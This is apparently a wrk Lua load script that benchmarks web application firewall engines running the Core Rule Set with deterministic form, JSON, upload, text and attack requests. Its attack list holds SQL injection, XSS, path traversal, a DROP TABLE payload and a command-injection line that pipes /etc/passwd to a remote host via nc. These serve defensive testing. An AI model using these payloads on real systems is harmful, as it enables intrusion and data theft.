-- Requests for the comparison of engines that run the Core Rule Set, in 64 varieties, built once
-- before the load begins. Before it is measured, every engine must let all of them pass at its
-- paranoia level, or block all of them if they are attacks.
--
--   WEIR_BENCH_LOAD   get, form (25 fields, 800 bytes), json (2 kB), upload (24 kB multipart), attack,
--                     signed (the input of the signature check: a text of Latin and CJK words)
--   WEIR_BENCH_BODY   size of the form in bytes
--   WEIR_BENCH_SITES  number of hosts to use in turn instead of one

local VARIETIES = 64
local UPLOAD_BYTES = 24000
local JSON_BYTES = 2000
local FORM_BYTES = 800
local BOUNDARY = "----WebKitFormBoundaryQ3hBv9vXw0aZkT2n"

local paths = { "/shop/cart/update", "/account/profile", "/search", "/api/v1/orders", "/blog/2026/11/hello-world/comments" }
local agents = {
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
}
local words = {
  "garden", "oak", "chair", "blue", "summer", "order", "delivery", "Karlsruhe", "selected", "square", "table",
  "four", "Berlin", "coin", "reading", "picnic", "point", "Lovelace", "Hopper", "Meitner", "Noether", "standard", "wood",
}
local fields = {
  "first_name", "last_name", "company", "street", "city", "country", "phone", "email", "quantity", "colour", "size",
  "material", "note", "coupon", "delivery", "payment", "newsletter", "terms", "language", "currency", "step", "gift",
  "token", "reference", "submit",
}
local attacks = {
  "1' UNION SELECT username, password FROM users-- ", "<script>alert(document.cookie)</script>",
  "../../../../../../etc/passwd", "; cat /etc/passwd | nc 198.51.100.1 4444", "'; DROP TABLE users; --",
}

-- A pseudo-random generator, so that every run sends the same requests.
local state = 20261122
local function random(n)
  state = (state * 1103515245 + 12345) % 2147483648
  return math.floor(state / 65536) % n + 1
end
local function pick(list) return list[random(#list)] end
local function hex(n)
  local out = {}
  for i = 1, n do out[i] = string.format("%x", random(16) - 1) end
  return table.concat(out)
end
local function encode(text)
  return (text:gsub("[^%w%-_.~ ]", function(c) return string.format("%%%02X", c:byte()) end):gsub(" ", "+"))
end

-- Words up to about `size` bytes.
local function prose(size)
  local out, length = {}, 0
  while length < size do
    out[#out + 1] = pick(words)
    length = length + #out[#out] + 1
  end
  return table.concat(out, " ")
end

-- The fields are the same for every size; their values grow.
local function form(size, extra)
  local names = 0
  for _, name in ipairs(fields) do names = names + #name + 2 end
  local each = math.max(1, math.floor((size - names) / #fields) - 5)
  local out = {}
  for i, name in ipairs(fields) do out[i] = name .. "=" .. encode(prose(each)) end
  for i, value in ipairs(extra or {}) do out[#out + 1] = "extra" .. i .. "=" .. encode(value) end
  return table.concat(out, "&")
end

local function json(size)
  local items, length = {}, 0
  while length < size - 150 do
    local item = string.format('{"id":%d,"name":"%s","price":%d.%02d,"tags":["%s","%s"],"available":true}',
      random(99999), prose(20), random(500), random(99), pick(words), pick(words))
    items[#items + 1] = item
    length = length + #item + 1
  end
  return string.format('{"customer":{"name":"%s %s","id":%d},"items":[%s]}', pick(words), pick(words), random(99999),
    table.concat(items, ","))
end

-- Three fields and a file of arbitrary bytes except line breaks, like an image.
local function upload(size)
  local out = {}
  for _, name in ipairs { "title", "album", "note" } do
    out[#out + 1] = "--" .. BOUNDARY .. '\r\nContent-Disposition: form-data; name="' .. name .. '"\r\n\r\n' .. prose(20) .. "\r\n"
  end
  local bytes = {}
  for i = 1, size - 700 do
    local byte = random(256) - 1
    bytes[i] = string.char((byte == 10 or byte == 13) and 32 or byte)
  end
  out[#out + 1] = "--" .. BOUNDARY .. '\r\nContent-Disposition: form-data; name="photo"; filename="garden.jpg"\r\n'
    .. "Content-Type: image/jpeg\r\n\r\n" .. table.concat(bytes) .. "\r\n--" .. BOUNDARY .. "--\r\n"
  return table.concat(out)
end

local function query()
  return "?q=" .. encode(prose(8)) .. "&page=" .. random(40) .. "&sort=" .. pick { "price", "name", "date" } .. "&lang=en"
end

-- The input of the signature check: 40 tokens, some of them CJK.
local cjk = { "订单", "确认", "东京", "北京", "价格", "数量", "ありがとう", "サイズ", "주문", "배송" }
local SIGNED_TOKENS = 40
local function signed()
  local out = {}
  for i = 1, SIGNED_TOKENS do out[i] = random(4) == 1 and pick(cjk) or pick(words) .. random(99) end
  return table.concat(out, ", ")
end

-- Method, content type and body of each load.
local size = tonumber(os.getenv("WEIR_BENCH_BODY") or "")
local loads = {
  get = function() return "GET" end,
  form = function() return "POST", "application/x-www-form-urlencoded", form(size or FORM_BYTES) end,
  json = function() return "POST", "application/json", json(JSON_BYTES) end,
  upload = function() return "POST", "multipart/form-data; boundary=" .. BOUNDARY, upload(UPLOAD_BYTES) end,
  signed = function() return "POST", "text/plain; charset=utf-8", signed() end,
  attack = function() return "POST", "application/x-www-form-urlencoded", form(FORM_BYTES, attacks) end,
}
local make = assert(loads[os.getenv("WEIR_BENCH_LOAD") or "get"], "WEIR_BENCH_LOAD is no load")
local host = os.getenv("WEIR_BENCH_SITES")

local requests = {}
function init()
  local varieties = (size or 0) > 20000 and 8 or VARIETIES
  for i = 1, varieties do
    local method, content_type, body = make()
    requests[i] = wrk.format(method, pick(paths) .. query(), {
      ["Host"] = host and "site-" .. (i - 1) % tonumber(host) .. ".example.com" or "www.example.com",
      ["User-Agent"] = pick(agents),
      ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
      ["Accept-Language"] = "en-GB,en;q=0.8,de;q=0.5",
      ["Accept-Encoding"] = "gzip, deflate, br",
      ["Content-Type"] = content_type,
      ["Referer"] = "https://www.example.com/",
      ["Cookie"] = "sid=" .. hex(32) .. "; theme=light; consent=1",
      ["Cache-Control"] = "max-age=0",
    }, body)
  end
end

local next_request = 0
function request()
  next_request = next_request % #requests + 1
  return requests[next_request]
end

-- The one line that the benchmark parses; the rest of the output of wrk is for people.
function done(summary, latency, _)
  local e = summary.errors
  io.write(string.format(
    'weir-load {"requests":%d,"duration_us":%d,"bytes":%d,"p50_us":%d,"p90_us":%d,"p99_us":%d,"max_us":%d,'
      .. '"failed_connects":%d,"failed_reads":%d,"failed_writes":%d,"bad_statuses":%d,"timeouts":%d}\n',
    summary.requests, summary.duration, summary.bytes, latency:percentile(50), latency:percentile(90),
    latency:percentile(99), latency.max, e.connect, e.read, e.write, e.status, e.timeout))
end
